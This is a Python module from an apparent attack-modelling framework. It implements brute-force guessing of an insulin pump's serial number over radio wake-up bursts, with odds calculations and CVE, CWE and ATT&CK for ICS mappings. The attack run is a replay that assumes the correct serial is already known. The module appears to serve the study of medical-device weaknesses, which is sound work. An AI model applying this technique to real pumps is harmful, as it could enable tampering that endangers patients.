"""Guess a serial number: call pumps by one number after another until one wakes.

A sleeping pump costs a full wake-up burst per number, so the guess is a matter of days, not of
cleverness. `odds` gives the numbers; the replay shows wrong numbers met with silence.
"""

from __future__ import annotations

from dataclasses import dataclass

from banting.attacks.conversation import ask
from banting.attacks.sources import NO_ACCESS_CONTROL, WAKE_UP
from banting.errors import TechniqueFailed
from banting.interfaces import Dialect, Grip, Program
from banting.schema.facts import Fact, Rule, position_fact
from banting.schema.intents import Heard
from banting.schema.question import Position
from banting.schema.verdict import TechniqueShown
from banting.units import MS_PER_DAY, MS_PER_H

__all__ = ["GUESS", "SERIALS", "GuessOdds", "GuessSerial", "guess_odds"]

SERIALS = 1_000_000  # six decimal digits; a known model or region prefix lowers it
_SHOWN_MISSES = 3
_AWAKE_MINUTES = 1


@dataclass(frozen=True, slots=True, kw_only=True)
class GuessOdds:
    """What guessing comes to, standing in range all the time; chances are 0-1."""

    space: int
    attempts_per_h: float
    chance_by_day: float
    chance_by_month: float
    days_to_half: float
    days_to_all: float


def guess_odds(dialect: Dialect, space: int = SERIALS) -> GuessOdds:
    """Return the odds of trying numbers one by one without repeats, from airtime and wake-up."""
    wake = dialect.wake(bytes(3), _AWAKE_MINUTES)[0]
    attempt_ms = dialect.airtime_ms(wake) + wake.wait_ms
    per_day = MS_PER_DAY / attempt_ms
    return GuessOdds(
        space=space,
        attempts_per_h=MS_PER_H / attempt_ms,
        chance_by_day=min(1.0, per_day / space),
        chance_by_month=min(1.0, 30 * per_day / space),
        days_to_half=space / 2 / per_day,
        days_to_all=space / per_day,
    )


def _serial_bytes(number: int) -> bytes:
    return bytes.fromhex(f"{number % SERIALS:06d}")


class GuessSerial:
    """Wake-up bursts for one serial number after another."""

    shown = TechniqueShown(
        id="guess-serial",
        title="Guess the serial number",
        what="a transmitter that stays in range for weeks calls one serial number after another "
        "until the pump answers",
        stop_it="nothing on the pump notices or slows it down; it takes weeks within range",
        cwe=("CWE-330", "CWE-307"),
        cve=("CVE-2019-10964",),
        emb3d=("TID-317", "TID-411"),
        attack_ics=("T0860",),
        sources=(NO_ACCESS_CONTROL, WAKE_UP),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="guess-pump-serial",
            technique="guess-serial",
            needs=frozenset(
                {
                    position_fact(Position.RADIO),
                    Fact("assume.serial-guessed"),
                    Fact("pump.answers-serial"),
                }
            ),
            gives=Fact("knows.pump-serial"),
            says="call one serial number after another until the pump wakes",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Show some misses and the hit: the last numbers of a search that assumption grants."""
        del rule
        right = int(grip.knows("guessed-serial").hex())
        for number in range(right - _SHOWN_MISSES, right + 1):
            serial = _serial_bytes(number)
            heard, answer = yield from ask(
                grip, "radio", grip.dialect.wake(serial, _AWAKE_MINUTES)[0]
            )
            if heard is not Heard.OTHER:
                grip.learn("pump-serial", dict(grip.dialect.secrets_in(answer))["pump-serial"])
                return f"{_SHOWN_MISSES} numbers met silence, {serial.hex()} woke the pump"
        raise TechniqueFailed("no number woke the pump")


GUESS = GuessSerial()
